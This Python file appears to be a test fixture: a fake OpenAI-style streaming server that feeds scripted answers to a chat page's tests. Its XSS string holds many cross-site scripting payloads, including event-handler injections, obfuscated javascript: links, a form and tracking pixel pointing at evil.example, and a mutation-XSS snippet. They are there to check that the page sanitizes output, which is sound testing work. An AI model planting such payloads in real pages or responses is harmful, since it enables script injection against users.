# SPDX-License-Identifier: Apache-2.0
"""A server with OpenAI's interface that says what the tests of the page want to see.

Usage: fake_server.py [--port N] [--key KEY] [--sees] [--old] [--site FOLDER]

What the last user message contains chooses the answer (`ANSWERS`); anything else is echoed, word by
word. `--old` answers as LMDeploy 0.5 does. `GET /log` has the bodies of the requests so far. `--site` also serves the page, out of the
folder that the build makes, to work on it without compiling.
"""
import argparse
import http.server
import json
import mimetypes
import pathlib
import sys
import threading
import time

MARKDOWN = """# Sums

The mean is $\\bar{x} = \\frac{1}{n}\\sum_{i=1}^{n} x_i$, and it costs $5 or $6 to know.

$$\\int_0^\\infty e^{-x^2}\\,dx = \\frac{\\sqrt{\\pi}}{2}$$

```python
def mean(values: list[float]) -> float:
    \"\"\"The arithmetic mean.\"\"\"
    return sum(values) / len(values)  # 0 values: ZeroDivisionError
```

| method | cost |
|---|---:|
| direct | $O(n^2)$ |
| fast | $O(n \\log n)$ |

- [x] done
- [ ] **open**, see [the page](https://example.org/a?b=1)
"""

XSS = """<script>window.pwned = 1; fetch('/pwned')</script>

<img src=x onerror="window.pwned = 2">

Inline <b onclick="window.pwned = 3">bold</b> and <svg/onload=window.pwned=4>.

[link](javascript:window.pwned=5) [data](data:text/html,<script>window.pwned=6</script>)
[vb](VbScript:alert) [tab](java\tscript:window.pwned=7) [entity](&#106;avascript:window.pwned=8)

![remote](https://evil.example/pixel.png) ![inline](data:image/svg+xml,<svg onload=window.pwned=9>)

<style>body { display: none }</style>

<div style="position:fixed;inset:0;background:red">covered</div>

<iframe srcdoc="<script>parent.pwned=10</script>"></iframe>

<form action="https://evil.example"><input name="key"><button>Go</button></form>

<a href="https://evil.example" ping="https://evil.example/ping" id="prompt">x</a>

$\\href{javascript:window.pwned=11}{x}$ $\\htmlStyle{color:red}{y}$ $\\includegraphics{https://evil.example/x.png}$

$$\\def\\a{\\a\\a}\\a$$

```html" onmouseover="window.pwned=12
<script>window.pwned = 13</script>
```

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=14&gt;">

| <img src=x onerror=window.pwned=15> |
|---|
| `<script>window.pwned=16</script>` |

The end.
"""

ANSWERS = {"markdown": MARKDOWN, "xss": XSS, "long": "word " * 400, "中文": "你好！**世界**很大。\n\n1. 一\n2. 二\n"}

OPENAPI = {
    "openapi": "3.1.0", "info": {"title": "scripted", "version": "1"},
    "paths": {
        "/v1/models": {"get": {"tags": ["Models"], "summary": "What this server runs", "responses": {"200": {"description": "A list."}}}},
        "/v1/chat/completions": {"post": {
            "tags": ["Answers"], "summary": "An answer to a conversation",
            "requestBody": {"content": {"application/json": {"schema": {"$ref": "#/components/schemas/Chat"}}}},
            "responses": {"200": {"description": "The answer."}, "429": {"description": "The queue is full."}}}}},
    "components": {"schemas": {"Chat": {
        "type": "object", "required": ["model", "messages"],
        "properties": {
            "model": {"type": "string", "example": "scripted-1b"},
            "messages": {"type": "array", "minItems": 1, "items": {"$ref": "#/components/schemas/Message"}},
            "temperature": {"type": ["number", "null"], "minimum": 0, "maximum": 2, "description": "How much chance there is."}}},
        "Message": {"type": "object", "required": ["role", "content"],
                    "properties": {"role": {"enum": ["user", "assistant"]}, "content": {"type": "string"}}}}},
}

CSP = ("default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data: blob:; font-src 'self'; "
       "connect-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'; "
       "require-trusted-types-for 'script'; trusted-types dompurify")


class Fake(http.server.ThreadingHTTPServer):
    daemon_threads = True
    request_queue_size = 64

    def __init__(self, port=0, key="", sees=False, old=False, site=None):
        super().__init__(("127.0.0.1", port), Handler)
        self.key, self.sees, self.old, self.site = key, sees, old, site
        self.log = []
        self.cancelled = 0
        self.fails_left = 0
        self.gate = threading.Event()  # answers to "hold ..." stop after three words until it is set

    @property
    def url(self):
        return f"http://127.0.0.1:{self.server_address[1]}"

    def start(self):
        threading.Thread(target=self.serve_forever, args=(0.02,), daemon=True).start()
        return self


def text_of(message):
    content = message["content"]
    if isinstance(content, str):
        return content
    return " ".join(part["text"] for part in content if part["type"] == "text")


def answer_to(messages):
    """(text, seconds between words) of the answer."""
    if messages[-1]["role"] == "assistant":
        return " and this is how it goes on.", 0.0
    asked = text_of(messages[-1])
    text = next((answer for word, answer in ANSWERS.items() if word in asked), f"You said: {asked}")
    return text, 0.03 if "slowly" in asked or "long" in asked else 0.001


def pieces_of(text):
    """As tokens fall: words, with the space before them."""
    word = ""
    for char in text:
        if char in " \n" and word.strip():
            yield word
            word = ""
        word += char
    yield word


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def reply(self, status, body, kind="application/json", **headers):
        body = body if isinstance(body, bytes) else json.dumps(body).encode()
        self.send_response(status)
        for name, value in {"content-type": kind, "content-length": str(len(body)), "x-request-id": "req-7",
                            **headers}.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def is_allowed(self):
        if not self.server.key or self.headers.get("authorization") == f"Bearer {self.server.key}":
            return True
        self.reply(401, {"message": "Unauthorized.", "type": "authentication_error", "code": 401, "object": "error"})
        return False

    def do_GET(self):
        path = self.path.split("?")[0]
        if path == "/log":
            self.reply(200, self.server.log)
        elif path == "/openapi.json":
            self.reply(200, OPENAPI)
        elif path == "/v1/models":
            if self.is_allowed():
                card = {"id": "scripted-1b", "object": "model"}
                if not self.server.old:
                    card |= {"max_model_len": 8192, "input_modalities": ["text", "image"] if self.server.sees else ["text"]}
                self.reply(200, {"object": "list", "data": [card]})
        elif self.server.site:
            self.send_file(path)
        else:
            self.reply(404, {"message": "Not Found", "object": "error"})

    def send_file(self, path):
        name = {"/": "index.html", "/docs": "docs.html", "/licenses": "licenses.txt"}.get(path, path.lstrip("/"))
        file = pathlib.Path(self.server.site, name).resolve()
        if not file.is_relative_to(pathlib.Path(self.server.site).resolve()) or not file.is_file():
            self.reply(404, {"message": "Not Found", "object": "error"})
            return
        kind = mimetypes.guess_type(file.name)[0] or "application/octet-stream"
        self.reply(200, file.read_bytes(), kind, **{"content-security-policy": CSP})

    def do_POST(self):
        body = json.loads(self.rfile.read(int(self.headers["content-length"])))
        self.server.log.append({"path": self.path, "body": body, "origin": self.headers.get("origin"),
                                "key": self.headers.get("authorization")})
        if not self.is_allowed():
            return
        asked = text_of(body["messages"][-1])
        if "busy" in asked and self.server.fails_left:
            self.server.fails_left -= 1
            self.reply(429, {"message": "The queue is full.", "type": "rate_limit_error", "object": "error"},
                       **{"retry-after": "2"})
            return
        if "impossible" in asked and self.server.old:
            self.reply(200, {"object": "error", "message": "The top_p `0.0` must be in (0, 1].", "code": 400})
            return
        self.stream(body, asked)

    def stream(self, body, asked):
        self.send_response(200)
        self.send_header("content-type", "text/event-stream; charset=utf-8")
        self.send_header("x-request-id", "req-8")
        self.send_header("connection", "close")
        self.end_headers()
        self.close_connection = True
        text, pause = answer_to(body["messages"])
        try:
            tokens = 0
            for piece in pieces_of(text):
                tokens += 1
                self.event({"choices": [{"index": 0, "delta": {"role": "assistant", "content": piece}}]})
                time.sleep(pause)
                if "hold" in asked and tokens == 3:
                    self.server.gate.wait(10)
                if "break off" in asked and body["messages"][-1]["role"] == "user" and tokens == 4:
                    return
            self.event({"choices": [{"index": 0, "delta": {"content": ""}, "finish_reason": "stop"}]})
            if self.server.old:
                self.wfile.write(b"data: [DONE]\n\n")
                return
            prompt = sum(len(text_of(message).split()) + 4 for message in body["messages"])
            self.event({"choices": [], "usage": {"prompt_tokens": prompt, "completion_tokens": tokens,
                                                 "total_tokens": prompt + tokens}})
            self.wfile.write(b"data: [DONE]\n\n")
        except OSError:
            self.server.cancelled += 1

    def event(self, body):
        self.wfile.write(f"data: {json.dumps(body)}\n\n".encode())
        self.wfile.flush()


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--port", type=int, default=6007)
    parser.add_argument("--key", default="")
    parser.add_argument("--sees", action="store_true")
    parser.add_argument("--old", action="store_true")
    parser.add_argument("--site")
    server = Fake(**vars(parser.parse_args()))
    print(server.url, file=sys.stderr)
    server.serve_forever()


if __name__ == "__main__":
    main()
